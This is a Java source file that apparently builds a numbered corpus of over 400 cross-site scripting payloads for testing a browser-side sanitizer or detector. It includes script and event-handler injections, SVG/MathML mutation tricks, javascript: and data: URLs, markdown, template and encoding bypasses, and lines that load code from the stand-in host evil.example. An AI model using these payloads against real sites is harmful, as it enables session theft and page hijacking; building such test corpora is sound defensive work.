package hanji.browser;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/// Texts that run `ran(N)`, or fetch from `evil.example`, in a page that takes them for code: what
/// runs, times what it has to break out of first. Each has a number of its own.
final class Payloads {

    /// Code by itself, wherever HTML may stand.
    private static final List<String> MARKUP =
            List.of(
                    "<script>ran(§)</script>",
                    "<ScRiPt >ran(§)</sCrIpT\t>",
                    "<script/src=https://evil.example/§.js></script>",
                    "<img src=x onerror=ran(§)>",
                    "<img/src=`x`onerror=ran(§)>",
                    "<IMG SRC=x OnErRoR\t=\tran(§)>",
                    "<svg onload=ran(§)>",
                    "<svg/onload=&#114;an(§)>",
                    "<svg><script>ran(§)</script></svg>",
                    "<svg><animate onbegin=ran(§) attributeName=x dur=1s>",
                    "<svg><a xlink:href=javascript:ran(§)><text y=20>x</text></a></svg>",
                    "<svg><use href=data:image/svg+xml,x§></svg>",
                    "<svg><foreignObject><iframe src=javascript:ran(§)></iframe></foreignObject></svg>",
                    "<math><mi xlink:href=javascript:ran(§)>x</mi></math>",
                    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=ran(§)&gt;\">",
                    "<iframe src=javascript:parent.ran(§)></iframe>",
                    "<iframe srcdoc='<script>parent.ran(§)</script>'></iframe>",
                    "<object data=https://evil.example/§></object>",
                    "<embed src=https://evil.example/§>",
                    "<body onload=ran(§)>",
                    "<details open ontoggle=ran(§)>",
                    "<input autofocus onfocus=ran(§)>",
                    "<video><source onerror=ran(§)></video>",
                    "<audio src=x onerror=ran(§)>",
                    "<marquee onstart=ran(§)>x</marquee>",
                    "<p style=animation-name:x onanimationstart=ran(§)>x",
                    "<a href=javascript:ran(§)>x</a>",
                    "<a href=\"java\tscript:ran(§)\">x</a>",
                    "<a href=vbscript:ran(§)>x</a>",
                    "<form action=javascript:ran(§)><button>x</button></form>",
                    "<button formaction=javascript:ran(§)>x</button>",
                    "<style>@import 'https://evil.example/§.css';</style>",
                    "<link rel=stylesheet href=https://evil.example/§.css>",
                    "<meta http-equiv=refresh content='0;url=https://evil.example/§'>",
                    "<base href=https://evil.example/§/>",
                    "<div style=background:url(https://evil.example/§)>x</div>",
                    "<div hx-get=https://evil.example/§ hx-trigger=load>x</div>",
                    "<div hx-get=/ hx-on::load=ran(§) hx-trigger=load>x</div>",
                    "<div data-hx-on:click=ran(§)>x</div>",
                    "<noscript><p title=\"</noscript><img src=x onerror=ran(§)>\">",
                    "<b><i></b><img src=x onerror=ran(§)></i>",
                    "<<script>ran(§)//<</script>");

    /// What a text may have to close before it is code.
    private static final List<String> OUT =
            List.of(
                    "",
                    "\">",
                    "'>",
                    "`>",
                    "</textarea>",
                    "</title></style></script>",
                    "-->",
                    "]]>",
                    "</li></ul></p>",
                    "</template>");

    /// Code in other tongues than HTML, or only after somebody decoded it.
    private static final List<String> OTHER =
            List.of(
                    "<scr<script>ipt>ran(§)</scr</script>ipt>",
                    "\" onmouseover=ran(§) autofocus onfocus=ran(§) x=\"",
                    "' onmouseover=ran(§) autofocus onfocus=ran(§) x='",
                    "x onerror=ran(§)",
                    "\" hx-get=\"https://evil.example/§\" hx-trigger=\"load\" x=\"",
                    "\" style=\"background:url(https://evil.example/§)",
                    "javascript:ran(§)",
                    "JaVaScRiPt:ran(§)",
                    "java&#09;script:ran(§)",
                    "&#106;avascript&colon;ran(§)",
                    "data:text/html,<script>ran(§)</script>",
                    "vbscript:ran(§)",
                    "[x](javascript:ran(§))",
                    "[x](JAVASCRIPT:ran(§))",
                    "[x](&#x6A;avascript:ran(§))",
                    "[x](<javascript:ran(§)>)",
                    "[x](data:text/html;base64,PHNjcmlwdD5yYW4oIyk8L3NjcmlwdD4=)",
                    "[x](https://a.example/\"onmouseover=ran(§)\"x)",
                    "[x](https://a.example 'x\" onmouseover=ran(§) y=\"')",
                    "[x][y] [y]: javascript:ran(§)",
                    "[<img src=x onerror=ran(§)>](https://a.example)",
                    "![x](https://evil.example/§.png)",
                    "![x\" onerror=\"ran(§)](x)",
                    "![x](javascript:ran(§))",
                    "[![x](https://evil.example/§.png)](javascript:ran(§))",
                    "<javascript:ran(§)>",
                    "<https://a.example/\"onclick=ran(§)>",
                    "`<script>ran(§)</script>`",
                    "``` <img src=x onerror=ran(§)> ```",
                    "**<svg onload=ran(§)>**",
                    "{#if true}<script>ran(§)</script>{/if}",
                    "{inject:editor.name} {cdi:editor.name} {str:raw('<script>ran(§)</script>')}",
                    "{'<img src=x onerror=ran(§)>'.raw}",
                    "{|<script>ran(§)</script>|}",
                    "{#include parts/head /}{#eval '<script>ran(§)</script>' /}",
                    "${ran(§)} #{ran(§)} {{constructor.constructor('ran(§)')()}}",
                    "<%= ran(§) %>",
                    "</script><script>ran(§)</script>",
                    "\"}</script><script>ran(§)</script>",
                    "\\\"};ran(§);//",
                    "';ran(§);//",
                    "\\u003cscript\\u003eran(§)\\u003c/script\\u003e",
                    "\\x3cimg src=x onerror=ran(§)\\x3e",
                    "&lt;script&gt;ran(§)&lt;/script&gt;",
                    "&#60;img src=x onerror=ran(§)&#62;",
                    "&amp;lt;script&amp;gt;ran(§)&amp;lt;/script&amp;gt;",
                    "%3Cscript%3Eran(§)%3C/script%3E",
                    "+ADw-script+AD4-ran(§)+ADw-/script+AD4-",
                    "\uff1cscript\uff1eran(§)\uff1c/script\uff1e",
                    "\u202E>tpircs/<)§(nar>tpircs<",
                    "<scr\u200Bipt>ran(§)</scr\u200Bipt>",
                    "\u2028ran(§)\u2029",
                    ";}*{background:url(https://evil.example/§)}",
                    "expression(ran(§))",
                    "@import url(https://evil.example/§.css);",
                    "x%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>ran(§)</script>",
                    "en;q=1, <script>ran(§)</script>",
                    "https://evil.example/§ ",
                    "//evil.example/§",
                    "[x](//evil.example/§)",
                    "<!--><script>ran(§)</script>-->",
                    "<?xml-stylesheet href='javascript:ran(§)'?>",
                    "<![CDATA[<script>ran(§)</script>]]>");

    private Payloads() {}

    /// Over 400, none with a line break.
    static List<String> all() {
        return numbered(
                Stream.concat(
                        OUT.stream().flatMap(out -> MARKUP.stream().map(code -> out + code)),
                        OTHER.stream()));
    }

    /// Those that are code in any body: what a detector has to catch.
    static List<String> markup() {
        return numbered(MARKUP.stream());
    }

    private static List<String> numbered(Stream<String> texts) {
        List<String> all = new ArrayList<>();
        texts.forEach(text -> all.add(text.replace("§", String.valueOf(all.size() + 1))));
        return all;
    }
}
